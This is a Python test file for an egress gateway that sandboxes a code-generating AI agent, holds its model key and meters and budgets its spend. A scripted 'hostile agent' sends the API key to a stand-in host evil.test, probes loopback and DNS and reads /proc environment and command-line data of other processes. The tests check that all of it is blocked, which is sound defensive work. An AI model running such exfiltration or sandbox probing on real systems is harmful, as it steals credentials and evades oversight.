"""The egress gateway: the generator's only way out, holding the model key and the
record of what the agent contacted and spent. Real gateway, real sandbox and Docker
engine; the model API and the package index are stand-ins on loopback, reached by the
gateway (never by the agent) under their real names."""

from __future__ import annotations

import json
import os
import random
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from uuid import UUID

import pytest

from blocks.generators import GeneratorBlock, ProcessGenerator
from core.egress import (
    GATEWAY_KEY_VARIABLE,
    MAX_EVENTS_BYTES,
    EgressPolicy,
    GatewayConfig,
    dropped_marker,
    usage_cost,
)
from core.errors import GeneratorFailed
from core.models import ModelUsage
from gateway.model import UsageMeter, relay_app
from tests.conftest import command_spec, require_sandbox
from tests.egress_standins import MODEL, PACKAGE, model_standin, package_index

KEY = "sk-ant-api03-standin-" + "".join(random.choices("abcdefghjkmnpqrstuvwxyz", k=24))


def test_presets_allow_what_they_name_and_refusals_say_which_setting_decides():
    registries = EgressPolicy.from_setting("registries")
    assert registries.refusal("pypi.org", 443, "CONNECT") is None
    assert registries.refusal("Files.PythonHosted.org.", 443, "CONNECT") is None
    assert registries.refusal("evil.test", 443, "CONNECT") == "host evil.test is not allowed"
    assert "port 8443" in (registries.refusal("pypi.org", 8443, "CONNECT") or "")
    # A cut-off prefix of an over-long name must not pass for an allowed host.
    too_long = "a" * 241 + ".pythonhosted.org" + ".evil.test"
    assert "characters is not one" in (
        EgressPolicy.from_setting(["*.pythonhosted.org"]).refusal(too_long, 443, "CONNECT") or ""
    )
    assert EgressPolicy.from_setting("model").refusal("pypi.org", 443, "CONNECT") is not None
    assert not EgressPolicy.from_setting("none").model
    listed = EgressPolicy.from_setting(["*.example.com"], methods=["get"])
    assert listed.refusal("api.example.com", 443, "CONNECT") is None
    assert listed.refusal("api.example.com", 80, "POST") == "method POST is not allowed (only GET)"
    message = registries.refused_message("CONNECT evil.test:443", "host evil.test is not allowed")
    assert "APPGEN_AGENT_EGRESS" in message and "'registries'" in message


def test_usage_is_read_from_streamed_and_plain_answers_and_priced_per_model():
    plain = UsageMeter(streamed=False)
    plain.feed(b'{"model": "claude-sonnet-4-5", "usage": {"input_tokens": 10,')
    plain.feed(b' "cache_read_input_tokens": 5, "output_tokens": 7}}')
    plain.close()
    assert (plain.model, plain.input_tokens, plain.output_tokens) == ("claude-sonnet-4-5", 15, 7)
    streamed = UsageMeter(streamed=True)
    for chunk in (
        b'event: message_start\ndata: {"type": "message_start", "message": {"model": "claude-',
        b'opus-4-1", "usage": {"input_tokens": 40, "output_tokens": 1}}}\n\n',
        b'data: {"type": "message_delta", "usage": {"output_tokens": 12}}\n\n',
        b'data: {"type": "message_delta", "usage": {"output_tokens": 30}}',
    ):
        streamed.feed(chunk)
    streamed.close()
    assert (streamed.model, streamed.input_tokens, streamed.output_tokens) == (
        "claude-opus-4-1",
        40,
        30,
    )
    usage = ModelUsage().add("claude-opus-4-1", 1_000_000, 0).add("claude-sonnet-4-5", 0, 1_000_000)
    assert usage_cost(usage, {"claude-opus-4": (15, 75), "claude-sonnet-4": (3, 15)}) == 30.0


def test_the_relay_passes_on_only_the_calls_whose_usage_it_can_meter(tmp_path, monkeypatch):
    """Messages, token counts and the model list reach the model; a batch (whose usage
    arrives later, past any budget), files or admin calls never do."""
    import asyncio

    import httpx

    monkeypatch.setenv(GATEWAY_KEY_VARIABLE, KEY)
    events = tmp_path / "events.jsonl"

    async def calls(url: str) -> list[int]:
        config = GatewayConfig(
            socket_dir="",
            events_file=str(events),
            policy=EgressPolicy.from_setting("model", []),
            model_api_url=url,
        )
        app = relay_app(config)
        transport = httpx.ASGITransport(app=app)
        async with (
            app.router.lifespan_context(app),
            httpx.AsyncClient(transport=transport, base_url="http://relay") as client,
        ):
            message = {"model": MODEL, "max_tokens": 8, "messages": []}
            statuses = [(await client.post("/v1/messages", json=message)).status_code]
            for method, path in (
                ("POST", "/v1/messages/batches"),
                ("GET", "/v1/files"),
                ("POST", "/v1/organizations/api_keys"),
                ("DELETE", "/v1/messages"),
            ):
                refused = await client.request(method, path, json={})
                assert "not a call the relay passes on" in refused.json()["error"]["message"]
                statuses.append(refused.status_code)
            return statuses

    with model_standin(KEY) as model:
        assert asyncio.run(calls(model.url)) == [200, 403, 403, 403, 403]
        assert len(model.calls) == 1
    recorded = [json.loads(line) for line in events.read_text().splitlines()]
    assert [e["event"] for e in recorded].count("refused") == 4


def test_attempts_past_the_event_bound_are_dropped_but_spend_is_always_recorded(tmp_path):
    from gateway.events import record

    events = str(tmp_path / "events.jsonl")
    with open(events, "wb") as log:
        log.truncate(MAX_EVENTS_BYTES)
    record(events, "refused", target="example.com:443", reason="not allowed")
    record(events, "model_call", spend=True, model=MODEL, input_tokens=5, output_tokens=7)
    with open(events, "rb") as log:
        log.seek(MAX_EVENTS_BYTES)
        tail = log.read().decode()
    assert tail.count("\n") == 1 and '"model_call"' in tail
    assert Path(dropped_marker(events)).exists()


WELL_BEHAVED = """
import json, os, urllib.error, urllib.request
base, key = os.environ["ANTHROPIC_BASE_URL"], os.environ["ANTHROPIC_API_KEY"]
calls = []
for stream in (False, True, False):
    body = {{"model": "{model}", "max_tokens": 16, "stream": stream,
            "messages": [{{"role": "user", "content": "hi"}}]}}
    request = urllib.request.Request(
        base + "/v1/messages", data=json.dumps(body).encode(),
        headers={{"x-api-key": key, "content-type": "application/json"}})
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            calls.append([answer.status, answer.read().decode()])
    except urllib.error.HTTPError as error:
        calls.append([error.code, error.read().decode()])
json.dump({{"key": key, "calls": calls}}, open("model.json", "w"))
"""


def well_behaved_agent(python: str) -> str:
    script = WELL_BEHAVED.format(model=MODEL)
    return (
        f"{python} - <<'EOF'\n{script}\nEOF\n"
        f"{python} -m pip download --no-deps --no-cache-dir --disable-pip-version-check "
        f"--index-url http://pypi.org/simple --trusted-host pypi.org -d wheels {PACKAGE}"
    )


@pytest.fixture
def standins(monkeypatch) -> Iterator[tuple[object, list[str]]]:
    """The model API and a package index that the gateway reaches as pypi.org."""
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    with model_standin(KEY) as model, package_index() as (index, served):
        monkeypatch.setenv("APPGEN_GATEWAY_TEST_UPSTREAMS", json.dumps({"pypi.org:80": index}))
        yield model, served


def all_text_under(root: Path) -> str:
    return "\n".join(
        path.read_bytes().decode(errors="replace") for path in root.rglob("*") if path.is_file()
    )


def test_a_sandboxed_agent_calls_its_model_and_installs_a_package_only_through_the_gateway(
    tmp_path, run_logger, caplog, standins
):
    require_sandbox()
    model, served = standins
    generator = ProcessGenerator(
        workspace=tmp_path / "ws", model_api_url=model.url, env_allowlist=["ANTHROPIC_API_KEY"]
    )
    run = generator.run(command_spec(1, well_behaved_agent(sys.executable)), run_logger)
    app = Path(run.artifact.location)
    result = json.loads((app / "model.json").read_text())
    assert [status for status, _ in result["calls"]] == [200, 200, 200]
    assert result["key"] != KEY  # the agent held a placeholder...
    assert [call["key"] for call in model.calls] == [KEY, KEY, KEY]  # ...the gateway the key
    assert [wheel.name for wheel in (app / "wheels").iterdir()] == [
        "appgen_standin_pkg-1.0-py3-none-any.whl"
    ]
    assert f"/simple/{PACKAGE}/" in served
    receipt = run.receipt
    assert receipt is not None
    assert receipt.usage.requests == 3
    assert (receipt.usage.input_tokens, receipt.usage.output_tokens) == (
        model.input_tokens,
        model.output_tokens,
    )
    assert receipt.usage.by_model == {MODEL: (model.input_tokens, model.output_tokens)}
    assert receipt.cost_usd == usage_cost(receipt.usage, generator.model_prices) > 0
    assert receipt.contacted == {"pypi.org:80": 2}  # the simple page and the wheel
    assert receipt.refused == {}
    assert "sandbox whose only way out is the egress gateway" in receipt.confinement
    assert "the egress gateway attaches the model key" in caplog.text  # listed, not handed in
    assert KEY not in all_text_under(tmp_path / "ws") + caplog.text + receipt.model_dump_json()


def test_a_budget_below_the_usage_stops_model_calls_and_fails_the_generation(
    tmp_path, run_logger, standins
):
    require_sandbox()
    model, _ = standins
    generator = ProcessGenerator(
        workspace=tmp_path / "ws", model_api_url=model.url, agent_max_tokens=300
    )
    with pytest.raises(GeneratorFailed, match="budget exhausted") as failure:
        generator.run(command_spec(2, well_behaved_agent(sys.executable)), run_logger)
    assert len(model.calls) == 2  # the third call never reached the model
    spent = model.input_tokens + model.output_tokens
    assert f"APPGEN_AGENT_MAX_TOKENS=300 ({spent} tokens used)" in str(failure.value)
    assert f"spent {spent} tokens in 2 model calls" in str(failure.value)


@pytest.fixture
def test_host() -> Iterator[tuple[str, int]]:
    """A host on a veth pair in a network namespace of this test's own, serving HTTP:
    the host reaches it, so an agent that cannot is confined, not misconfigured."""
    if os.geteuid() != 0:
        if os.environ.get("CI"):
            pytest.fail("CI runs as root, which the test host's namespace needs")
        pytest.skip("a network namespace needs root")
    tag = f"{os.getpid() % 1000}{random.randint(0, 99):02d}"
    octet = random.randint(1, 250)
    namespace, outer, inner = f"appgen-t{tag}", f"agt{tag}a", f"agt{tag}b"
    host_ip, peer_ip = f"10.231.{octet}.1", f"10.231.{octet}.2"

    def ip(*args: str) -> None:
        subprocess.run(["ip", *args], check=True, capture_output=True)

    ip("netns", "add", namespace)
    server = None
    try:
        ip("link", "add", outer, "type", "veth", "peer", "name", inner)
        ip("link", "set", inner, "netns", namespace)
        ip("addr", "add", f"{host_ip}/30", "dev", outer)
        ip("link", "set", outer, "up")
        ip("-n", namespace, "addr", "add", f"{peer_ip}/30", "dev", inner)
        ip("-n", namespace, "link", "set", inner, "up")
        command = [sys.executable, "-m", "http.server", "8080", "--bind", peer_ip]
        server = subprocess.Popen(
            ["ip", "netns", "exec", namespace, *command],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        deadline = time.monotonic() + 30
        while True:
            try:
                socket.create_connection((peer_ip, 8080), 1).close()
                break
            except OSError:
                assert time.monotonic() < deadline, "the test host did not come up"
                time.sleep(0.1)
        yield peer_ip, 8080
    finally:
        if server is not None:
            server.kill()
            server.wait()
        subprocess.run(["ip", "link", "del", outer], capture_output=True)
        subprocess.run(["ip", "netns", "del", namespace], capture_output=True)


HOSTILE = """
import glob, json, os, socket, urllib.error, urllib.request
tried = {{}}
def connect(host, port):
    try:
        socket.create_connection((host, port), 3).close()
        return "reached"
    except OSError as error:
        return "failed: " + str(error)
def through_gateway(url):
    try:
        return "reached " + str(urllib.request.urlopen(url, timeout=10).status)
    except urllib.error.HTTPError as error:
        return "refused " + str(error.code) + ": " + error.read().decode()
    except OSError as error:
        return "failed: " + str(error)
tried["host loopback"] = connect("127.0.0.1", {loopback_port})
tried["test host"] = connect("{test_host}", {test_port})
try:
    socket.getaddrinfo("pypi.org", 443)
    tried["dns"] = "reached"
except OSError as error:
    tried["dns"] = "failed: " + str(error)
stolen = os.environ.get("ANTHROPIC_API_KEY", "")
tried["host not allowed"] = through_gateway("http://evil.test/?k=" + stolen)
tried["test host via gateway"] = through_gateway("http://{test_host}:{test_port}/")
proxy_port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
with socket.create_connection(("127.0.0.1", proxy_port), 10) as tunnel:
    tunnel.sendall(b"CONNECT pypi.org:8443 HTTP/1.1\\r\\nHost: pypi.org:8443\\r\\n\\r\\n")
    answer = tunnel.recv(4096).decode()
status = answer.split("\\r\\n")[0]
tried["allowed host, other port"] = ("reached" if " 200 " in status else "refused ") + answer
loot = dict(os.environ)
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        loot[path] = open(path, "rb").read().decode(errors="replace")
    except OSError as error:
        loot[path] = "unreadable: " + str(error)
tried["pids"] = sorted(int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*"))
json.dump(tried, open("tried.json", "w"))
json.dump(loot, open("loot.json", "w"))
"""


def hostile_agent(python: str, loopback_port: int, test_host: tuple[str, int]) -> str:
    script = HOSTILE.format(
        loopback_port=loopback_port, test_host=test_host[0], test_port=test_host[1]
    )
    return f"{python} - <<'EOF'\n{script}\nEOF"


@pytest.mark.parametrize("mode", ["sandbox", "docker"])
def test_a_hostile_agent_reaches_nothing_it_should_not_and_finds_no_key(
    tmp_path, run_logger, caplog, standins, test_host, mode, request
):
    model, _ = standins
    workspace = tmp_path / "ws"
    if mode == "sandbox":
        require_sandbox()
        generator: GeneratorBlock = ProcessGenerator(workspace=workspace, model_api_url=model.url)
        python = sys.executable
    else:
        from blocks.docker_generator import DockerGenerator

        image = request.getfixturevalue("generator_image")
        generator = DockerGenerator(workspace=workspace, image=image, model_api_url=model.url)
        python = "python3"
    with socket.socket() as service:  # a Prefect API, a database: anything on 127.0.0.1
        service.bind(("127.0.0.1", 0))
        service.listen()
        command = hostile_agent(python, service.getsockname()[1], test_host)
        run = generator.run(command_spec(3, command), run_logger)
    app = Path(run.artifact.location)
    tried = json.loads((app / "tried.json").read_text())
    for attempt in ("host loopback", "test host", "dns"):
        assert tried[attempt].startswith("failed"), (attempt, tried[attempt])
    for attempt in ("host not allowed", "test host via gateway", "allowed host, other port"):
        assert tried[attempt].startswith("refused"), (attempt, tried[attempt])
    assert "APPGEN_AGENT_EGRESS" in tried["host not allowed"]
    assert all(pid < 100 for pid in tried["pids"]), tried["pids"]  # its own PID namespace
    receipt = run.receipt
    assert receipt is not None
    assert set(receipt.refused) == {
        "evil.test:80 (host evil.test is not allowed)",
        f"{test_host[0]}:{test_host[1]} (host {test_host[0]} is not allowed)",
        "pypi.org:8443 (port 8443 is not allowed (only 80 and 443))",
    }
    assert receipt.contacted == {}
    assert KEY not in all_text_under(workspace) + caplog.text + receipt.model_dump_json()


def test_a_killed_orchestrator_leaves_no_gateway_behind(tmp_path):
    require_sandbox()
    marker = f"sleep {random.randint(100000, 999999)}.5"
    script = textwrap.dedent(f"""
        import logging
        from pathlib import Path
        from blocks.generators import GeneratorBlock, ProcessGenerator
        from tests.conftest import command_spec
        generator = ProcessGenerator(workspace=Path({str(tmp_path / "ws")!r}))
        generator.run(command_spec(4, {marker!r}), logging.getLogger("orchestrator"))
    """)
    orchestrator = subprocess.Popen(
        [sys.executable, "-c", script], cwd=Path(__file__).parent.parent, start_new_session=True
    )
    try:
        deadline = time.monotonic() + 60
        while not (gateways := gateway_processes(orchestrator.pid)) or not agent_started(marker):
            assert time.monotonic() < deadline, "the generation did not start"
            assert orchestrator.poll() is None, "the orchestrator exited early"
            time.sleep(0.1)
        os.killpg(orchestrator.pid, signal.SIGKILL)
        orchestrator.wait()
        deadline = time.monotonic() + 30
        while left := [pid for pid in gateways if alive(pid)]:
            assert time.monotonic() < deadline, f"gateway processes left running: {left}"
            time.sleep(0.1)
    finally:
        if orchestrator.poll() is None:
            os.killpg(orchestrator.pid, signal.SIGKILL)
            orchestrator.wait()


def gateway_processes(parent: int) -> list[int]:
    """The gateway ``parent`` started, and the processes that gateway forked."""
    found = [pid for pid in pids() if parent_of(pid) == parent and b"gateway" in cmdline(pid)]
    return found + [pid for pid in pids() if parent_of(pid) in found]


def agent_started(marker: str) -> bool:
    return any(cmdline(pid).replace(b"\0", b" ").strip() == marker.encode() for pid in pids())


def pids() -> list[int]:
    return [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]


def cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def parent_of(pid: int) -> int | None:
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return None


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state != "Z"


def test_a_publish_records_the_receipt_and_the_key_is_nowhere_it_went(
    tmp_path, appgen_home, standins, flow_env, monkeypatch
):
    from prefect import get_client
    from prefect.client.schemas.filters import (
        ArtifactFilter,
        ArtifactFilterFlowRunId,
        ArtifactFilterKey,
    )

    from blocks import defaults
    from core.settings import Settings
    from flows.publish import generate_and_publish
    from tests.conftest import flow_run_logs

    require_sandbox()
    model, _ = standins
    python = sys.executable
    agent = (
        f"{well_behaved_agent(python)}\n"
        f"{python} -c \"import urllib.request as u; u.urlopen('http://evil.test/')\" || true\n"
        f"{python} -m generator --agent template"
    )
    monkeypatch.setenv("APPGEN_AGENT", "command")
    monkeypatch.setenv("APPGEN_AGENT_COMMAND", agent)
    monkeypatch.setenv("APPGEN_AGENT_ENV", '["ANTHROPIC_API_KEY"]')  # as users were told to
    monkeypatch.setenv("APPGEN_MODEL_API_URL", model.url)
    outcome = generate_and_publish("a counter app", request_id=21)
    assert outcome.request_id == 21 and outcome.receipt is not None
    row = defaults.database(Settings()).get(21)
    assert row is not None and row.receipt == outcome.receipt
    assert row.agent_tokens == model.input_tokens + model.output_tokens
    assert row.agent_cost_usd == row.receipt.cost_usd > 0
    assert row.receipt.refused == {"evil.test:80 (host evil.test is not allowed)": 1}
    with get_client(sync_client=True) as client:
        summary = client.read_artifacts(
            artifact_filter=ArtifactFilter(
                key=ArtifactFilterKey(any_=["appgen-request-21"]),
                flow_run_id=ArtifactFilterFlowRunId(any_=[UUID(str(row.flow_run_id))]),
            ),
            limit=1,
        )[0].data
    assert isinstance(summary, str)
    assert "**The agent was refused 1 time(s)**" in summary
    assert "3 model calls" in summary
    assert outcome.repo_url is not None
    history = subprocess.run(
        ["git", "-C", outcome.repo_url.removeprefix("file://"), "log", "-p", "--all"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    assert "model.json" in history  # what the agent saw of its key was published...
    logs = "\n".join(flow_run_logs([str(row.flow_run_id)], expect={"receipt:"}))
    assert "the egress gateway attaches the model key" in logs
    for place in (history, logs, row.model_dump_json(), all_text_under(appgen_home), summary):
        assert KEY not in place  # ...and it was a placeholder
